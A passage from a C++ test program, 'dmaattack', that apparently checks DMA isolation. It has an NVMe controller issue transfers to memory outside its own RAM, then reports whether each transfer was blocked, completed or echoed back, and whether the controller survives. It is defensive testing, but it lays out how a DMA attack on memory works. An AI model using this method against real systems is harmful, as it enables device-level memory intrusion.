                    wr32p(tp + PAGE, DATA + 0x1000);
                    wr32p(tp + PAGE + 8, DATA + 0x2000);
                }
                const Result d = submit(io, rw_cmd(0x01, LBA_LIST, 3 * PAGE, DATA, t + PAGE));
                record(t + PAGE, 3, d);
                ++to_land;
                if (expect_breach && ok(d) && read_own(LBA_LIST, 3) &&
                    !memcmp(reinterpret_cast<void*>(CHECK), reinterpret_cast<void*>(DATA), 3 * PAGE))
                    ++landed;
                for (u32 w = 0; w < 1024; ++w) wr32p(DATA + 4 * w, pattern(w));   // DATA's page 0 = LBA 0 again
                if (!after(d)) break;
            }
        }
        if (++done % 256 == 0) printf("dmaattack: %u of %u targets done\n", done, targets);
    }

    // 5. Report.
    read_irr(irr_after);
    u32 new_irqs = 0;
    for (u32 i = 0; i < 8; ++i) {
        for (u32 b = 0; b < 32; ++b) {
            if (!(irr_after[i] >> b & 1) || (irr_before[i] >> b & 1)) continue;
            if (new_irqs < 8) printf("dmaattack: interrupt pending after the sweep: vector 0x%x\n", 32 * i + b);
            ++new_irqs;
        }
    }
    printf("dmaattack: commands=%u (identify, write from, read into, write from per target; %u PRP list)\n", commands,
           list_done && !(max_bytes && max_bytes < 3 * PAGE) ? 1u : 0u);
    for (u32 i = 0; i < status_kinds; ++i) {
        if (statuses[i].timeout) printf("dmaattack: status timeout-or-cfs x%u\n", statuses[i].n);
        else printf("dmaattack: status %s x%u\n", describe({Outcome::Done, statuses[i].status}), statuses[i].n);
    }
    if (status_other) printf("dmaattack: status (other kinds) x%u\n", status_other);
    printf("dmaattack: targets=%u blocked=%u completed=%u timeouts=%u\n", targets, blocked, completed, timeouts);
    for (u32 i = 0; i < completed && i < 8; ++i)
        printf("dmaattack: completed T=0x%llx cmd=%s\n", first_completed[i], kCmdName[first_completed_cmd[i]]);
    printf("dmaattack: interrupts raised by the sweep: nmi=%u fixed=%u\n", nmis, new_irqs);
    printf("dmaattack: echoes=%u%s\n", echoes, own_failures ? " (own-RAM reads or writes FAILED during the sweep)" : "");
    if (expect_breach) printf("dmaattack: breach seen in memory and on disk: %u of %u commands\n", landed, to_land);
    if (lost) printf("dmaattack: the controller could not be reset after a timeout; sweep stopped\n");

    // 6. The controller still works: Identify into own RAM (one reset allowed), LBA 0..7 intact.
    bool works = !lost;
    if (works) {
        memset(reinterpret_cast<void*>(IDBUF), 0, PAGE);
        Result again = submit(admin, identify_cmd(IDBUF, 1, 0));
        if (!ok(again)) {
            printf("dmaattack: Identify into own RAM after the sweep: %s; resetting\n", describe(again));
            works = bring_up(true) && ok(again = submit(admin, identify_cmd(IDBUF, 1, 0)));
        }
        works = works && !memcmp(reinterpret_cast<void*>(IDBUF + 24), model, strlen(model));
        if (works && !(read_own(LBA_PATTERN, 1) && !memcmp(reinterpret_cast<void*>(CHECK), reinterpret_cast<void*>(DATA), PAGE))) {
            printf("dmaattack: LBA 0..7 no longer read back as written\n");
            works = false;
        }
    }
    if (works) printf("dmaattack: controller still works\n");
    else printf("dmaattack: controller does not work after the sweep\n");

    if (expect_breach) {
        if (works && completed == commands && blocked == 0 && landed == to_land && echoes == 2 * targets && !own_failures) {
            printf("dmaattack: PASS (expect_breach: every DMA outside its RAM happened)\n");
            return 0;
        }
        printf("dmaattack: FAIL expect_breach: %u of %u commands completed, %u landed, %u of %u echoes\n", completed,
               commands, landed, echoes, 2 * targets);
        return 9;
    }
    if (echoes) {
        printf("dmaattack: FAIL %u echoes: the device wrote outside its RAM and read it back\n", echoes);
        return 7;
    }
    if (nmis || new_irqs) {
        printf("dmaattack: FAIL the device's writes raised interrupts (nmi=%u fixed=%u)\n", nmis, new_irqs);
        return 7;
    }
    if (completed && !judge_by_echo) {
        printf("dmaattack: FAIL %u DMA commands outside its RAM completed\n", completed);
        return 7;
    }
    if (own_failures) {
        printf("dmaattack: FAIL %u own-RAM commands failed during the sweep\n", own_failures);
        return 8;
    }
    if (!works) {
        printf("dmaattack: FAIL the controller does not work after the sweep\n");
        return 8;
    }
    if (completed) printf("dmaattack: PASS (judge=echo: %u commands completed but nothing came back)\n", completed);
    else printf("dmaattack: PASS (every DMA outside its RAM blocked)\n");
    return 0;
}
